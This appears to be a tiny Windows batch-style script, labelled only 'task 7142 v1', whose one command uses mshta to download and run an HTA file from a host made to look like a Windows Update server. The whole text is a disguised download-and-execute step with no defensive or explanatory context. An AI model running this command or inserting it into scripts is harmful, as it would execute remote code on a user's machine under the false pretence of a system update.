REM task 7142 v1
mshta http://dl.winupdate-cdn.example/update.hta
